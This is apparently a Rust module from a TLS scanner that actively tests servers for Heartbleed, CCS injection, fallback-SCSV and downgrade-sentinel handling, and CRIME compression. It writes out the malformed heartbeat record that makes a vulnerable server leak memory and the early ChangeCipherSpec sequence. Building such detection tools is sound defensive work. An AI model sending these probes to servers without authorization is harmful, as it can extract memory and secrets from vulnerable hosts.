//! The active attack tests: Heartbleed, CCS injection, TLS_FALLBACK_SCSV, and TLS
//! compression. Each runs one handshake up to the server's flight and then does what the
//! attack does, on the same connection.
//!
//! Heartbleed and CCS injection follow their probe with a malformed handshake record. A
//! server answers that with an alert straight away, and it processes records in order, so
//! whatever it made of the probe arrives before the alert: no test waits on silence (which
//! would also stall servers that serve one connection at a time).

use std::time::Duration;

use shared::ProtocolVersion;

use super::prober::Prober;
use super::suites::hello;
use crate::assess::observations::ProbeOutcome;
use crate::wire::record::{ContentType, Record};
use crate::wire::server::{alert, alert_name};
use crate::wire::{FlightEnd, Verdict, exchange::Deadline, exchange::next_record};

/// decryption_failed (21): reserved since TLS 1.1, but what OpenSSL 0.9.8/1.0.0 sent.
const DECRYPTION_FAILED: u8 = 21;

/// How long to wait for the answer to a follow-up.
const FOLLOW_UP: Duration = Duration::from_secs(4);

/// A close_notify alert: every server closes the connection on it, after answering what
/// came before it — which flushes out its answer to a probe without waiting on silence.
fn flush_record(version: u16) -> Vec<u8> {
    Record {
        content_type: ContentType::Alert,
        version,
        payload: vec![1, 0],
    }
    .encode()
}

/// Heartbleed (CVE-2014-0160): a heartbeat request that claims 16 KiB of payload and carries
/// none. A vulnerable server echoes 16 KiB of its memory; a patched one discards it.
/// Returns the outcome and whether the server enabled the heartbeat extension.
pub async fn heartbleed(
    prober: &Prober,
    version: ProtocolVersion,
    suites: &[u16],
) -> (ProbeOutcome, Option<bool>) {
    let _slot = prober.slot().await;
    let bytes = prober
        .named(hello(version, suites).with_heartbeat())
        .to_bytes();
    let mut ex = match prober.exchange(&bytes).await {
        Ok(ex) => ex,
        Err(e) => {
            return (
                ProbeOutcome::Inconclusive(format!("no handshake to test with: {e}")),
                None,
            );
        }
    };
    let Some(sh) = ex.flight.server_hello.as_ref() else {
        return (
            ProbeOutcome::Inconclusive(format!("no handshake to test with ({:?})", ex.flight.end)),
            None,
        );
    };
    if sh.heartbeat.is_none() {
        return (
            ProbeOutcome::NotVulnerable(
                "The server does not enable the heartbeat extension.".into(),
            ),
            Some(false),
        );
    }
    if ex.flight.end != FlightEnd::ServerHelloDone {
        return (
            ProbeOutcome::Inconclusive(format!(
                "the handshake stopped early ({:?})",
                ex.flight.end
            )),
            Some(true),
        );
    }
    let record_version = sh.version().min(0x0303);
    // type 1 (request), payload_length 0x4000, no payload, no padding.
    let request = Record {
        content_type: ContentType::Heartbeat,
        version: record_version,
        payload: vec![0x01, 0x40, 0x00],
    };
    let mut out = request.encode();
    out.extend(flush_record(record_version));
    if let Err(e) = tokio::io::AsyncWriteExt::write_all(&mut ex.stream, &out).await {
        return (
            ProbeOutcome::Inconclusive(format!("could not send the heartbeat: {e}")),
            Some(true),
        );
    }
    let deadline = Deadline::new(FOLLOW_UP, FOLLOW_UP);
    // Bounded: at most a few records before the alert that ends it.
    for _ in 0..16 {
        match next_record(&mut ex.stream, &mut ex.records, deadline).await {
            Ok(Some(record)) if record.content_type == ContentType::Heartbeat => {
                let leaked = record.payload.len().saturating_sub(3);
                return if leaked > 0 {
                    (
                        ProbeOutcome::Vulnerable(format!(
                            "The server answered a heartbeat carrying no payload with {leaked} bytes of its memory."
                        )),
                        Some(true),
                    )
                } else {
                    (
                        ProbeOutcome::NotVulnerable(
                            "The server answered the heartbeat without leaking.".into(),
                        ),
                        Some(true),
                    )
                };
            }
            Ok(Some(record)) if record.content_type == ContentType::Alert => {
                return (
                    ProbeOutcome::NotVulnerable(
                        "The server discarded the malformed heartbeat (it answered only the close_notify that followed)."
                            .into(),
                    ),
                    Some(true),
                );
            }
            Ok(Some(_)) => continue,
            Ok(None) => {
                return (
                    ProbeOutcome::NotVulnerable(
                        "The server closed the connection instead of answering the heartbeat."
                            .into(),
                    ),
                    Some(true),
                );
            }
            Err(e) => {
                return (
                    ProbeOutcome::Inconclusive(format!("no answer after the heartbeat: {e}")),
                    Some(true),
                );
            }
        }
    }
    (
        ProbeOutcome::Inconclusive("the server kept sending records".into()),
        Some(true),
    )
}

/// CCS injection (CVE-2014-0224): a ChangeCipherSpec right after the server's flight, before
/// any key exchange, then an "encrypted" record. A patched server rejects the early CCS with
/// unexpected_message; a vulnerable one switches to keys made from an empty secret and then
/// fails to decrypt the record (bad_record_mac / decryption_failed).
pub async fn ccs_injection(
    prober: &Prober,
    version: ProtocolVersion,
    suites: &[u16],
) -> ProbeOutcome {
    let _slot = prober.slot().await;
    let bytes = prober.named(hello(version, suites)).to_bytes();
    let mut ex = match prober.exchange(&bytes).await {
        Ok(ex) => ex,
        Err(e) => return ProbeOutcome::Inconclusive(format!("no handshake to test with: {e}")),
    };
    let Some(sh) = ex.flight.server_hello.as_ref() else {
        return ProbeOutcome::Inconclusive(format!(
            "no handshake to test with ({:?})",
            ex.flight.end
        ));
    };
    if ex.flight.end != FlightEnd::ServerHelloDone {
        return ProbeOutcome::Inconclusive(format!(
            "the handshake stopped early ({:?})",
            ex.flight.end
        ));
    }
    let record_version = sh.version().min(0x0303);
    let mut out = Record {
        content_type: ContentType::ChangeCipherSpec,
        version: record_version,
        payload: vec![1],
    }
    .encode();
    out.extend(
        Record {
            content_type: ContentType::Handshake,
            version: record_version,
            payload: vec![0xa5; 48],
        }
        .encode(),
    );
    if let Err(e) = tokio::io::AsyncWriteExt::write_all(&mut ex.stream, &out).await {
        return ProbeOutcome::Inconclusive(format!("could not send the ChangeCipherSpec: {e}"));
    }
    let deadline = Deadline::new(FOLLOW_UP, FOLLOW_UP);
    for _ in 0..16 {
        match next_record(&mut ex.stream, &mut ex.records, deadline).await {
            Ok(Some(record)) if record.content_type == ContentType::Alert => {
                let description = record.payload.get(1).copied().unwrap_or_default();
                let name = alert_name(description);
                return match description {
                    alert::UNEXPECTED_MESSAGE => ProbeOutcome::NotVulnerable(
                        "The server rejected a ChangeCipherSpec sent before the key exchange (unexpected_message).".into(),
                    ),
                    alert::BAD_RECORD_MAC | DECRYPTION_FAILED => ProbeOutcome::Vulnerable(format!(
                        "The server accepted a ChangeCipherSpec before the key exchange and switched keys ({name} on \
                         the next record)."
                    )),
                    _ => ProbeOutcome::NotVulnerable(format!("The server refused the early ChangeCipherSpec ({name}).")),
                };
            }
            Ok(Some(_)) => continue,
            Ok(None) => {
                return ProbeOutcome::NotVulnerable(
                    "The server closed the connection on the early ChangeCipherSpec.".into(),
                );
            }
            Err(e) => {
                return ProbeOutcome::Inconclusive(format!(
                    "no answer after the ChangeCipherSpec: {e}"
                ));
            }
        }
    }
    ProbeOutcome::Inconclusive("the server kept sending records".into())
}

/// TLS_FALLBACK_SCSV (RFC 7507): a hello for `lower` marked as a fallback, to a server that
/// supports `highest`. It must refuse with inappropriate_fallback.
pub async fn fallback_scsv(
    prober: &Prober,
    lower: ProtocolVersion,
    highest: ProtocolVersion,
    suites: &[u16],
) -> ProbeOutcome {
    let flight = prober
        .send(&hello(lower, suites).with_fallback_scsv())
        .await;
    match flight.verdict() {
        Verdict::Refused(_) if flight.refused_with(alert::INAPPROPRIATE_FALLBACK) => {
            ProbeOutcome::NotVulnerable(format!(
                "The server refused a {} hello marked as a fallback (inappropriate_fallback), as it supports {}.",
                lower.display_name(),
                highest.display_name()
            ))
        }
        Verdict::Accepted { .. } => ProbeOutcome::Vulnerable(format!(
            "The server accepted a {} hello marked as a fallback although it supports {}.",
            lower.display_name(),
            highest.display_name()
        )),
        Verdict::Refused(refusal) => {
            ProbeOutcome::Inconclusive(format!("the server refused with {refusal:?}"))
        }
        other => ProbeOutcome::Inconclusive(format!("no usable answer: {other:?}")),
    }
}

/// Downgrade protection of a TLS 1.3 server: every handshake it completed at an older
/// version must carry the RFC 8446 sentinel in its random, which a TLS 1.3 client checks.
pub fn downgrade_sentinel(legacy_flights: &[&crate::wire::ServerFlight]) -> ProbeOutcome {
    let missing: Vec<String> = legacy_flights
        .iter()
        .filter_map(|f| f.server_hello.as_ref())
        .filter(|sh| sh.downgrade.is_none())
        .filter_map(|sh| sh.protocol_version())
        .map(|v| v.display_name().to_owned())
        .collect();
    if missing.is_empty() {
        ProbeOutcome::NotVulnerable(
            "The server supports TLS 1.3 and marks every older handshake with the RFC 8446 downgrade sentinel.".into(),
        )
    } else {
        let mut versions = missing;
        versions.dedup();
        ProbeOutcome::Vulnerable(format!(
            "The server supports TLS 1.3 but its {} handshakes lack the RFC 8446 downgrade sentinel.",
            versions.join(" and ")
        ))
    }
}

/// TLS compression (CRIME): offer DEFLATE and see whether the server picks it.
pub async fn compression(
    prober: &Prober,
    version: ProtocolVersion,
    suites: &[u16],
) -> Result<bool, String> {
    let flight = prober
        .send(&hello(version, suites).with_compression(&[1, 0]))
        .await;
    match (&flight.server_hello, flight.verdict()) {
        (Some(sh), Verdict::Accepted { .. }) => Ok(sh.compression_method != 0),
        (_, other) => Err(format!("no handshake offering compression: {other:?}")),
    }
}
